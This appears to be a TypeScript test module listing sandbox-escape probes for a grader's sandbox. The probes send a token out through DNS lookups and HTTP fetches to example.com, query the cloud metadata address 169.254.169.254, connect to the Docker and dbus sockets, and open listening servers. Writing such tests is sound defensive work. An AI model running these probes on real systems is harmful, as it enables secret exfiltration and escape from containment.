import { type Attack, atImport, EARNED } from '../attack.ts';

/** Programs that want to talk to anybody but the grader. */
export const network: Attack[] = [
  {
    name: 'tcp',
    tries: 'connects to servers of this machine and elsewhere',
    content: atImport(`const net = need('net');
const tryOne = (options) => new Promise((done) => { const s = net.connect(options, () => { escaped('connected to ' + JSON.stringify(options)); done(); }); s.on('error', done); setTimeout(done, 300); });
await Promise.all([{ host: '127.0.0.1', port: %PORT% }, { host: '::1', port: %PORT% }, { host: '10.0.0.1', port: 80 }, { host: '169.254.169.254', port: 80 }].map((o) => { try { return tryOne(o); } catch {} }));`),
    outcome: EARNED,
    quick: true,
  },
  {
    name: 'udp',
    tries: 'sends datagrams',
    content: atImport(`const dgram = need('dgram');
for (const kind of ['udp4', 'udp6']) { try { const s = dgram.createSocket(kind); s.on('error', () => {}); s.send('%TOKEN%', %PORT%, kind === 'udp4' ? '127.0.0.1' : '::1', (error) => { if (!error) escaped('sent a datagram'); }); } catch {} }
await patience(50);`),
    outcome: EARNED,
  },
  {
    name: 'dns',
    tries: 'carries data away in names that it looks up',
    content: atImport(`const dns = need('dns');
await Promise.race([patience(300), Promise.all([dns.promises.lookup('%TOKEN%.example.com'), new dns.promises.Resolver().resolve4('%TOKEN%.example.com')].map((p) => p.then(() => escaped('looked a name up'), () => {})))]);`),
    outcome: EARNED,
  },
  {
    name: 'unix-sockets',
    tries: 'connects to sockets that have a path, and to abstract ones',
    content: atImport(`const net = need('net');
const paths = ['%SECRETS%/socket', '\\0%TOKEN%', '/run/docker.sock', '/var/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', '/run/systemd/notify'];
await Promise.all(paths.map((path) => new Promise((done) => { try { const s = net.connect({ path }, () => { escaped('connected to ' + path); done(); }); s.on('error', done); setTimeout(done, 300); } catch { done(); } })));`),
    outcome: EARNED,
    quick: true,
  },
  {
    name: 'serves',
    tries: 'waits for others to connect to it',
    content: atImport(`const net = need('net');
await Promise.all([{ port: 0 }, { path: '/tmp/%TOKEN%' }, { path: '\\0%TOKEN%-server' }].map((o) => new Promise((done) => { try { const s = net.createServer().listen(o, () => { escaped('serves ' + JSON.stringify(o)); done(); }); s.on('error', done); setTimeout(done, 300); } catch { done(); } })));`),
    outcome: EARNED,
  },
  {
    name: 'http',
    tries: 'fetches from the web',
    content: atImport(
      "await Promise.race([patience(400), Promise.all(['http://127.0.0.1:%PORT%/', 'http://example.com/%TOKEN%', 'http://169.254.169.254/latest/meta-data/'].map((u) => fetch(u).then(() => escaped('fetched ' + u), () => {})))]);",
    ),
    outcome: EARNED,
  },
  {
    name: 'descriptors',
    tries: 'writes into every descriptor that it was started with, and reads from it',
    content: atImport(`for (let fd = 4; fd < 128; fd++) {
  let target = ''; try { target = fs.readlinkSync('/proc/self/fd/' + fd); } catch { continue; }
  if (/^(anon_inode:|pipe:|\\/dev\\/null$|\\/proc\\/|socket:)/.test(target)) continue;
  escaped('has descriptor ' + fd + ' to ' + target);
}`),
    outcome: EARNED,
    quick: true,
  },
  {
    name: 'threads-connect',
    tries: 'connects from a thread',
    content: atImport(`const { Worker } = need('worker_threads');
await new Promise((done) => { const w = new Worker("require('net').connect(%PORT%, '127.0.0.1', () => require('worker_threads').parentPort.postMessage('in')).on('error', () => process.exit())", { eval: true }); w.on('message', () => { escaped('connected from a thread'); done(); }); w.on('exit', done); w.on('error', done); setTimeout(done, 500); });`),
    outcome: EARNED,
  },
  {
    name: 'cluster',
    tries: 'shares sockets by the cluster and channel modules',
    content:
      atImport(`attempt('forked a cluster', () => { const p = need('cluster').fork().process.pid; if (!p) throw 1; });
attempt('sent to a parent', () => { if (!process.send) throw 1; process.send('x'); });`),
    outcome: EARNED,
  },
];
